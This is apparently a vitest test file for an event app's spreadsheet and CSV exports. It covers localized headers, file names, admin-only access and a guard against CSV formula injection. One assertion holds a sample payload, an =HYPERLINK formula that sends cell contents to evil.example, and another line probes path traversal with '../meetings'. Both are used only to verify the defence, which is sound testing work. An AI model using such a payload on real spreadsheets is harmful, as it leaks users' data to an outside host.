// The export files themselves (docs/rules.md#exports): headers in the admin's language, names,
// the formula guard of CSV cells, and who is refused.
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { LANGUAGES } from '../../../core/constants.ts';
import { todayIn } from '../../../core/rules/time.ts';
import { EXPORT_DATASETS } from '../../../core/schemas/export.ts';
import {
  downloaded,
  EVIL_COMPANY,
  type ExportFixture,
  exportCall,
  exportFixture,
} from '../../test/export-factories.ts';
import { call } from '../../test/factories.ts';
import { createTestApp, type TestApp } from '../../test/harness.ts';

let app: TestApp;
let f: ExportFixture;
beforeAll(async () => {
  app = await createTestApp();
  f = await exportFixture(app, { name: '부산 국제 식품전', timeZone: 'Pacific/Kiritimati' });
});
afterAll(() => app.dispose());

describe('languages', () => {
  it("writes the header row and the sheet's name in the asked language, English by default", async () => {
    const meetingsIn = async (lang?: string) => {
      const res = await exportCall(app, f.admin.cookie, f.project.id, 'meetings', lang ? { lang } : {});
      const book = XLSX.read(res.rawPayload, { type: 'buffer' });
      const rows = XLSX.utils.sheet_to_json<string[]>(book.Sheets[book.SheetNames[0]], { header: 1 });
      return { sheet: book.SheetNames[0], header: rows[0].slice(0, 5), checkedIn: rows[1][13] };
    };
    expect(await meetingsIn()).toEqual({
      sheet: 'Meetings',
      header: ['Date', 'Start', 'End', 'Status', 'Buyer'],
      checkedIn: 'Yes',
    });
    expect(await meetingsIn('ko')).toEqual({
      sheet: '미팅',
      header: ['날짜', '시작', '종료', '상태', '바이어'],
      checkedIn: '예',
    });
    expect(await meetingsIn('zh')).toEqual({
      sheet: '洽谈',
      header: ['日期', '开始时间', '结束时间', '状态', '买家'],
      checkedIn: '是',
    });
    expect(await meetingsIn('ja')).toEqual({
      sheet: '商談',
      header: ['日付', '開始', '終了', 'ステータス', 'バイヤー'],
      checkedIn: 'はい',
    });
  });

  it('has a header for every column in every language, each named once', async () => {
    for (const dataset of EXPORT_DATASETS) {
      const english = await downloaded(app, f.admin.cookie, f.project.id, dataset, 'csv', 'en');
      for (const lang of LANGUAGES) {
        const file = await downloaded(app, f.admin.cookie, f.project.id, dataset, 'csv', lang);
        expect(file.header, `${dataset} ${lang}`).toHaveLength(english.header.length);
        expect(new Set(file.header).size, `${dataset} ${lang}`).toBe(file.header.length);
        expect(
          file.header.every((h) => h.trim() !== ''),
          `${dataset} ${lang}`,
        ).toBe(true);
      }
    }
  });

  it('refuses a language, a format or a dataset it does not know', async () => {
    const codeOf = async (dataset: string, query: Record<string, string>) => {
      const res = await exportCall(app, f.admin.cookie, f.project.id, dataset, query);
      return `${res.statusCode} ${res.json().error.code}`;
    };
    expect(await codeOf('meetings', { lang: 'fr' })).toBe('400 validation_failed');
    expect(await codeOf('meetings', { format: 'pdf' })).toBe('400 validation_failed');
    expect(await codeOf('meetings', { color: 'red' })).toBe('400 validation_failed');
    expect(await codeOf('participants', {})).toBe('400 validation_failed');
    expect(await codeOf('../meetings', {})).toMatch(/^404 /);
  });
});

describe('files', () => {
  it('names each file after the project, the dataset and the venue’s date, in UTF-8 too', async () => {
    // Kiritimati is 14 hours ahead of UTC: for ten hours of each day its date is not UTC's.
    const today = todayIn('Pacific/Kiritimati');
    for (const dataset of EXPORT_DATASETS) {
      for (const format of ['xlsx', 'csv'] as const) {
        const res = await exportCall(app, f.admin.cookie, f.project.id, dataset, { format });
        expect(res.statusCode).toBe(200);
        expect(res.headers['content-type']).toBe(
          format === 'csv'
            ? 'text/csv; charset=utf-8'
            : 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        );
        expect(res.headers['cache-control']).toBe('private, no-store');
        const disposition = String(res.headers['content-disposition']);
        expect(disposition).toContain(`attachment; filename="${dataset}-${today}.${format}"; filename*=UTF-8''`);
        expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toBe(
          `부산 국제 식품전-${dataset}-${today}.${format}`,
        );
      }
    }
  });

  it('writes the .xlsx header row in bold and keeps it in view while the rows scroll', async () => {
    const res = await exportCall(app, f.admin.cookie, f.project.id, 'transactions', { lang: 'ja' });
    const sheet = await (await JSZip.loadAsync(res.rawPayload)).file('xl/worksheets/sheet1.xml')?.async('string');
    expect(sheet).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
    expect(sheet).toContain('<c r="A1" t="inlineStr"><is><r><rPr><b/></rPr><t>商談</t></r></is></c>');
  });

  it('starts a CSV with a BOM and keeps a spreadsheet from running a company name as a formula', async () => {
    const res = await exportCall(app, f.admin.cookie, f.project.id, 'meetings', { format: 'csv' });
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = res.rawPayload.toString('utf8');
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",Japan,`);
    expect(text).not.toMatch(/,"?=HYPERLINK/);
    const csv = await downloaded(app, f.admin.cookie, f.project.id, 'meeting-requests', 'csv');
    expect(csv.records[0]['Requester company']).toBe(`'${EVIL_COMPANY}`);
    // In the .xlsx the same name is a text cell, shown as it is and never run.
    const book = XLSX.read((await exportCall(app, f.admin.cookie, f.project.id, 'meetings')).rawPayload, {
      type: 'buffer',
      cellFormula: true,
    });
    const cell = book.Sheets[book.SheetNames[0]].F3;
    expect({ type: cell.t, value: cell.v, formula: cell.f }).toEqual({
      type: 's',
      value: EVIL_COMPANY,
      formula: undefined,
    });
  });
});

describe('access', () => {
  it('refuses everyone but admins, for every dataset, and answers 404 for a project that does not exist', async () => {
    for (const dataset of EXPORT_DATASETS) {
      const answers = await Promise.all(
        [f.ann, f.sam, f.ian, { cookie: '' }].map(
          async (who) => (await exportCall(app, who.cookie, f.project.id, dataset)).statusCode,
        ),
      );
      expect(answers, dataset).toEqual([403, 403, 403, 401]);
    }
    const missing = '00000000-0000-4000-8000-000000000000';
    const res = await call(app, 'GET', `/api/projects/${missing}/exports/meetings`, { cookie: f.admin.cookie });
    expect(res.statusCode).toBe(404);
  });
});
